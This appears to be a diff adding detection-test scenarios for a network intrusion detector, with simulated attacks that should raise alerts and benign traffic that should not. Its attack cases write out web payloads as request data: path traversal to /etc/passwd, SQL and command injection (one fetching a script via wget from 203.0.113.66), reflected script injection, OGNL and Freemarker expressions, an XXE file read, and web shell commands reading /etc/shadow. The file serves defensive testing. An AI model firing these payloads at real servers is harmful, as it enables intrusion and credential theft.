@@ -1,0 +1,124 @@
+"""Scenes of attacks on web servers, and of web use that looks odd."""
+
+from cases import fires, silent
+from payloads import request, response
+from traffic import Wire
+
+ME, SERVER = "203.0.113.66", "10.0.0.5"
+
+
+def _ask(wire: Wire, ask: bytes, status: int = 200, at: float | None = None, client: str = ME, server: str = SERVER) -> None:  # fmt: skip
+    wire.talk(client, server, 80, [("c", ask), ("s", response(status))], at=at)
+
+
+@fires(title="path traversal")
+def traversal(wire: Wire) -> None:
+    """Files outside the web root, also with double encoding (CVE-2021-41773's form)."""
+    for number, uri in enumerate(("/a/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/x?file=..%252f..%252fwindows%252fwin.ini")):  # fmt: skip
+        _ask(wire, request(uri), at=number)
+
+
+@fires(title="sql injection")
+def sql(wire: Wire) -> None:
+    """The forms that sqlmap and text books use."""
+    for number, query in enumerate(("id=1'%20or%20'1'='1", "id=1+union+select+1,2,user()", "id=1;waitfor+delay+'0:0:5'", "id=1+and+sleep(5)")):  # fmt: skip
+        _ask(wire, request(f"/item.php?{query}"), at=number)
+
+
+@fires(title="command injection")
+def command(wire: Wire) -> None:
+    """Commands appended to a parameter of a ping page."""
+    for number, value in enumerate(("127.0.0.1;cat+/etc/passwd", "127.0.0.1|id", "$(whoami)", "x%26%26wget+http://203.0.113.66/s.sh")):  # fmt: skip
+        _ask(wire, request(f"/ping.php?host={value}"), at=number)
+
+
+@fires(title="script injection")
+def script(wire: Wire) -> None:
+    """Reflected script in parameters, four forms."""
+    for number, value in enumerate(("%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg+src=x+onerror=alert(1)%3E", "%3Csvg/onload=alert(1)%3E", "javascript:alert(1)")):  # fmt: skip
+        _ask(wire, request(f"/find?q={value}"), at=number)
+
+
+@fires(title="template injection")
+def template(wire: Wire) -> None:
+    """Expressions in template and object languages: Spring, Struts, Freemarker (CVE-2017-5638, CVE-2022-22954)."""
+    ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
+    _ask(wire, request("/upload", headers=f"Content-Type: {ognl}\r\n"), at=0)
+    _ask(
+        wire, request("/catalog?deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew()(%22id%22)%7D"), at=1
+    )
+    _ask(wire, request("/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=a"), at=2)
+
+
+@fires(title="xml entity")
+def external_entity(wire: Wire) -> None:
+    """An XML document that asks the server to read a file (XXE)."""
+    body = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
+    _ask(wire, request("/api", method="POST", headers="Content-Type: text/xml\r\n", body=body))
+
+
+@fires(title="web shell")
+def web_shell(wire: Wire) -> None:
+    """Commands to an uploaded script, each answered with 200."""
+    for number, word in enumerate(("whoami", "id", "uname%20-a", "cat%20/etc/shadow")):
+        _ask(wire, request(f"/uploads/shell.php?cmd={word}"), at=number)
+
+
+@fires(title="Nikto")
+def scanner(wire: Wire) -> None:
+    """A scanner that names itself asks for 80 paths that do not exist."""
+    for number in range(80):
+        _ask(wire, request(f"/{wire.word(6)}.php", agent="Mozilla/5.00 (Nikto/2.5.0)"), 404, at=0.05 * number)
+
+
+@fires(title="scanned the web server")
+def path_guessing(wire: Wire) -> None:
+    """The same under a browser's name: 120 paths, 404 each."""
+    for number in range(120):
+        _ask(wire, request(f"/{wire.word(6)}/"), 404, at=0.05 * number)
+
+
+@fires("high", title="web session")
+def stolen_session(wire: Wire) -> None:
+    """One session cookie, used from two addresses with two programs."""
+    for client, agent in (("10.0.0.9", "Firefox/120"), ("10.0.0.66", "Chrome/119")):
+        ask = request("/inbox", agent=agent, headers="Cookie: PHPSESSID=0123456789abcdef\r\n")
+        wire.talk(client, SERVER, 80, [("c", ask), ("s", response())])
+
+
+@silent()
+def words_of_sql(wire: Wire) -> None:
+    """Search words that are also words of SQL, and an apostrophe in a name."""
+    for uri in ("/search?q=select+a+union+representative", "/search?q=O'Reilly+or+O'Hara", "/drop?table=3", "/a?sort=order+by+name", "/search?q=cat+food"):  # fmt: skip
+        _ask(wire, request(uri), client="10.0.0.9", server="198.51.100.9")
+
+
+@silent()
+def tracking_addresses(wire: Wire) -> None:
+    """Advertising: long query strings with addresses, pipes and semicolons."""
+    for number in range(10):
+        uri = f"/pixel?u=https%3A%2F%2Fwww.example.org%2Fa%3Fb%3D{number}&l=a;b;c|d&cb=javascript&r=..%2Fimg"
+        _ask(wire, request(uri, host="ads.example.net"), client="10.0.0.9", server="198.51.100.9")
+
+
+@silent()
+def broken_page(wire: Wire) -> None:
+    """A page with a dead picture: 30 answers 404 for the same three paths."""
+    for number in range(30):
+        _ask(wire, request(f"/img/{number % 3}.png"), 404, at=number, client="10.0.0.9")
+
+
+@silent()
+def laptop_moves(wire: Wire) -> None:
+    """A laptop keeps its session and its browser when its address changes."""
+    for client in ("10.0.0.9", "10.0.0.19"):
+        ask = request("/inbox", headers="Cookie: PHPSESSID=0123456789abcdef\r\n")
+        wire.talk(client, SERVER, 80, [("c", ask), ("s", response())])
+
+
+@silent()
+def health_checks(wire: Wire) -> None:
+    """A load balancer asks for /health without Host and user agent, every two seconds or so."""
+    for number in range(20):
+        ask = b"GET /health HTTP/1.0\r\n\r\n"
+        _ask(wire, ask, at=2.0 * number + wire.random.random(), client="10.0.0.3")
